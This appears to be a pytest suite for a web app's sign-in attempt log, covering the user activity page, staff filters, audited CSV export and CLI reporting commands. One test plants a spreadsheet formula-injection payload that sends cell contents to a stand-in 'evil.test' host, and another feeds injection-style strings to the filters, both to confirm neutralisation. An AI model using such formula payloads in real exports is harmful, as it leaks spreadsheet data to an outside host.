"""The record of attempts to sign in: a person's own, staff's list and file, and what the commands print."""

import csv
import io
import json
import re
import uuid
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from flask import Flask

from libs.database import first_uuid7, utcnow
from tests.account.conftest import FIREFOX, Person, execute, rows, sign_in
from tests.conftest import run_command
from tests.pages import Browser, token_of

WRONG = "a wrong password, wholly"


def fail(app: Flask, email: str, *, ip: str = "127.0.0.1", times: int = 1) -> None:
    for _ in range(times):
        Browser(app, ip=ip).fill("/login", email=email, password=WRONG)


def event_at(app: Flask, person: Person, ago: timedelta, **values: Any) -> None:
    """An attempt of the past, as it would have been written then."""
    at = utcnow() - ago
    given = {"ip": "198.51.100.1", "user_agent": FIREFOX, "method": "password", "reason": None, **values}
    execute(
        app,
        "INSERT INTO login_events (id, created_at, user_id, ip, user_agent, method, success, failure_reason)"
        " SELECT :id, :at, id, :ip, :user_agent, :method, CAST(:reason AS text) IS NULL, :reason"
        " FROM users WHERE sub = :sub",
        id=uuid.UUID(int=first_uuid7(at).int + uuid.uuid4().int % 2**60),
        at=at,
        sub=person.sub,
        **given,
    )


def fresh_ip() -> str:
    return f"2001:db8:{uuid.uuid4().hex[:4]}:{uuid.uuid4().hex[:4]}::1"


# -- a person's own --------------------------------------------------------------------------------------------


def test_a_person_sees_their_own_attempts_and_nobody_elses(
    app: Flask, browser: Browser, make_person: Callable[..., Person]
) -> None:
    person, other = make_person(), make_person()
    fail(app, other.email, ip="198.51.100.77")
    fail(app, person.email, ip="198.51.100.66")
    browser.get("/login", headers={"User-Agent": FIREFOX})
    browser.post(
        "/login",
        {"csrf_token": token_of(browser), "email": person.email, "password": person.password},
        headers={"User-Agent": FIREFOX},
    )
    text = browser.get("/account/activity").text
    assert "198.51.100.66" in text
    assert "198.51.100.77" not in text
    assert "Wrong password" in text
    assert "Signed in" in text
    assert "Firefox on Linux" in text
    assert text.index("Signed in</span>") < text.index("Wrong password</span>"), "the newest first"


def test_a_long_activity_is_paged_without_gap_or_repetition(
    app: Flask, browser: Browser, person: Person
) -> None:
    for number in range(120):
        event_at(app, person, timedelta(hours=number + 1), ip=f"198.51.100.{number + 1}")
    sign_in(browser, person)
    seen: list[str] = []
    browser.get("/account/activity")
    while True:
        seen += re.findall(r"<code>(198\.51\.100\.\d+)</code>", browser.text)
        older = re.search(r'id="older" href="([^"]+)"', browser.text)
        if not older:
            break
        browser.get(older[1])
    assert seen == [f"198.51.100.{number + 1}" for number in range(120)]
    assert browser.get("/account/activity?before=nonsense").status_code == 200


def test_activity_needs_a_sign_in(browser: Browser) -> None:
    assert browser.get("/account/activity").headers["Location"].startswith("/login?")


def test_the_country_is_shown_by_its_name(app: Flask, browser: Browser, person: Person) -> None:
    event_at(app, person, timedelta(hours=1))
    execute(
        app,
        "UPDATE login_events SET country = 'NZ' WHERE user_id = (SELECT id FROM users WHERE sub = :s)",
        s=person.sub,
    )
    sign_in(browser, person)
    assert "New Zealand" in browser.get("/account/activity").text


# -- staff -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("roles", "sees"), [([], 403), (["reviewer"], 403), (["support"], 200), (["admin"], 200)]
)
def test_login_events_are_for_support(
    app: Flask, make_person: Callable[..., Person], roles: list[str], sees: int
) -> None:
    browser = sign_in(Browser(app), make_person(roles=roles))
    assert browser.get("/admin/login-events").status_code == sees
    browser.get("/account/sessions")
    data = {"csrf_token": token_of(browser)}
    assert browser.post("/admin/login-events/export", data).status_code == sees
    assert browser.post("/admin/login-events/export", {}).status_code == 400, "without the form's token"


def test_staff_filter_by_everything(app: Flask, support: Browser, make_person: Callable[..., Person]) -> None:
    person, ip = make_person(), fresh_ip()
    event_at(app, person, timedelta(days=3), ip=ip)
    event_at(app, person, timedelta(days=2), ip=ip, reason="bad_password")
    event_at(app, person, timedelta(days=1), ip="198.51.100.9", reason="disabled", method="passkey")
    today = utcnow()

    def count(**wanted: str) -> int:
        text = support.get("/admin/login-events", query_string=wanted).text
        return text.count(f">{person.email}</a>")

    assert count(email=person.email.upper()) == 3
    assert count(email=person.email, outcome="success") == 1
    assert count(email=person.email, outcome="failure") == 2
    assert count(email=person.email, reason="disabled") == 1
    assert count(email=person.email, reason="disabled", outcome="success") == 0
    assert count(email=person.email, method="passkey") == 1
    assert count(ip=ip) == 2
    assert count(ip=ip, reason="bad_password") == 1
    assert count(ip=f"{ip}/64", outcome="success") == 1
    assert count(ip="198.51.100.0/24", email=person.email) == 1
    assert count(email=person.email, since=f"{today - timedelta(days=2):%Y-%m-%d}") == 2
    assert count(email=person.email, until=f"{today - timedelta(days=2):%Y-%m-%d}") == 2
    assert count(reason="provider_error", ip=ip) == 0


def test_odd_filters_are_said_or_change_nothing(support: Browser) -> None:
    for name, value in (
        ("ip", "nonsense"),
        ("ip", "10.0.0.0/99"),
        ("since", "yesterday"),
        ("until", "9999-99-99"),
    ):
        assert support.get("/admin/login-events", query_string={name: value}).status_code == 422, name
        assert 'role="alert"' in support.text
    for name in ("email", "reason", "method", "outcome", "before"):
        assert support.get("/admin/login-events", query_string={name: "%'\"\x00<b>"}).status_code == 200, name
        assert "<b>" not in support.text


def test_an_address_nobody_has_is_found_by_its_hash_alone(app: Flask, support: Browser) -> None:
    email = f"ghost-{uuid.uuid4().hex[:8]}@people.test"
    fail(app, email, ip="198.51.100.44", times=2)
    support.get("/admin/login-events", query_string={"email": email})
    assert "Nobody has this address" in support.text
    assert support.text.count("No such account</span>") == 2
    [kept, _] = rows(
        app,
        "SELECT typed_hash, user_id FROM login_events WHERE ip = '198.51.100.44' ORDER BY id DESC LIMIT 2",
    )
    assert kept.user_id is None
    assert "ghost" not in kept.typed_hash


def test_what_was_refused_by_a_limit_is_found_by_the_address(
    app: Flask, support: Browser, person: Person
) -> None:
    fail(app, person.email, ip="198.51.100.45", times=21)
    text = support.get("/admin/login-events", query_string={"email": person.email}).text
    assert "Refused for a while" in text
    assert "Wrong password" in text


def test_a_rare_event_is_found_page_by_page_however_far_back(
    app: Flask, support: Browser, person: Person, monkeypatch: pytest.MonkeyPatch
) -> None:
    from libs import lists

    monkeypatch.setattr(lists, "SCANNED", 20)
    method = f"m{uuid.uuid4().hex[:8]}"
    event_at(app, person, timedelta(hours=3), method=method)
    for number in range(50):
        event_at(app, person, timedelta(hours=2, seconds=number))
    support.get("/admin/login-events", query_string={"method": method, "email": person.email})
    pages = 1
    while f">{method}<" not in support.text:
        assert "The search stopped" in support.text
        older = re.search(r'id="older" href="([^"]+)"', support.text)
        assert older
        support.get(older[1].replace("&amp;", "&"))
        pages += 1
    assert pages == 3


# -- the file --------------------------------------------------------------------------------------------------


def export(browser: Browser, **wanted: str) -> list[dict[str, str]]:
    browser.get("/admin/login-events", query_string=wanted)
    browser.fill(button="export")
    assert browser.status == 200
    assert browser.page.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in browser.page.headers["Content-Disposition"]
    return list(csv.DictReader(io.StringIO(browser.text)))


def test_the_export_has_what_was_filtered_in_batches_and_is_audited(
    app: Flask, support: Browser, person: Person, monkeypatch: pytest.MonkeyPatch
) -> None:
    from services.account.flows import login_events

    monkeypatch.setattr(login_events, "EXPORTED_AT_ONCE", 7)
    for number in range(40):
        event_at(app, person, timedelta(minutes=number + 1), reason="bad_password" if number % 2 else None)
    found = export(support, email=person.email, outcome="failure")
    assert len(found) == 20
    assert {row["email"] for row in found} == {person.email}
    assert {row["success"] for row in found} == {"no"}
    assert [row["created_at"] for row in found] == sorted((row["created_at"] for row in found), reverse=True)
    [entry] = json.loads(run_command(app, "audit", "list", "--limit", "1", "--json").output)
    assert entry["action"] == "login_events.exported"
    assert entry["after"] == {"email": f"user:{person.sub}", "success": False}
    monkeypatch.setattr(login_events, "EXPORTED", 10)
    assert len(export(support, email=person.email)) == 10


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t=", " =", "|", "＝"])
def test_no_cell_of_the_export_is_a_formula(app: Flask, support: Browser, person: Person, sign: str) -> None:
    event_at(app, person, timedelta(hours=1), user_agent=f'{sign}HYPERLINK("http://evil.test?"&A1,"x")')
    [row] = export(support, email=person.email)
    assert row["user_agent"].startswith("'")


# -- commands --------------------------------------------------------------------------------------------------


def test_the_command_prints_the_columns_of_the_runbook(app: Flask, browser: Browser, person: Person) -> None:
    ip = fresh_ip()
    fail(app, person.email, ip=ip)
    fail(app, "nobody-at-all@people.test", ip=ip)
    event_at(app, person, timedelta(hours=25), ip=ip)
    found = json.loads(run_command(app, "login-events", "--ip", ip, "--json").output)
    assert [list(row) for row in found] == [
        ["created_at", "email", "ip_address", "success", "failure_reason"]
    ] * 2
    assert [(row["email"], row["failure_reason"]) for row in found] == [
        ("Unknown", "unknown_account"),
        (person.email, "bad_password"),
    ]
    printed = run_command(app, "login-events", "--ip", ip, "--since", "2d").output.splitlines()
    assert re.fullmatch(r"created_at +\| email +\| ip_address +\| success \| failure_reason", printed[0])
    assert len(printed) == 4
    of_person = json.loads(
        run_command(app, "login-events", "--email", person.email, "--limit", "1", "--json").output
    )
    assert [row["email"] for row in of_person] == [person.email]
    assert run_command(app, "login-events", "--ip", "nonsense").exit_code == 2


def test_failures_are_counted_by_reason_most_first(app: Flask, person: Person) -> None:
    before = {
        row["failure_reason"]: row["count"]
        for row in json.loads(run_command(app, "login-failures", "--json").output)
    }
    for _ in range(3):
        event_at(app, person, timedelta(minutes=5), reason="provider_error")
    event_at(app, person, timedelta(minutes=61), reason="provider_error")
    counted = json.loads(run_command(app, "login-failures", "--json").output)
    assert {row["failure_reason"]: row["count"] for row in counted}["provider_error"] == 3 + before.get(
        "provider_error", 0
    )
    assert [row["count"] for row in counted] == sorted((row["count"] for row in counted), reverse=True)
    longer = json.loads(run_command(app, "login-failures", "--since", "2h", "--json").output)
    assert {row["failure_reason"]: row["count"] for row in longer}["provider_error"] >= 4


@pytest.mark.parametrize("since", ["", "0h", "abc", "-5m", "1h30", "24", "99999999d"])
def test_what_is_no_length_of_time_is_said(app: Flask, since: str) -> None:
    result = run_command(app, "login-events", "--since", since)
    assert result.exit_code == 2
    assert "length of time" in result.output


@pytest.mark.parametrize(
    ("text", "minutes"),
    [("30m", 30), ("24h", 1440), ("7d", 10080), ("1h30m", 90), ("90s", 1.5), (" 2H ", 120)],
)
def test_lengths_of_time_are_read_in_one_place(text: str, minutes: float) -> None:
    from libs.commands import parse_duration

    assert parse_duration(text) == timedelta(minutes=minutes)
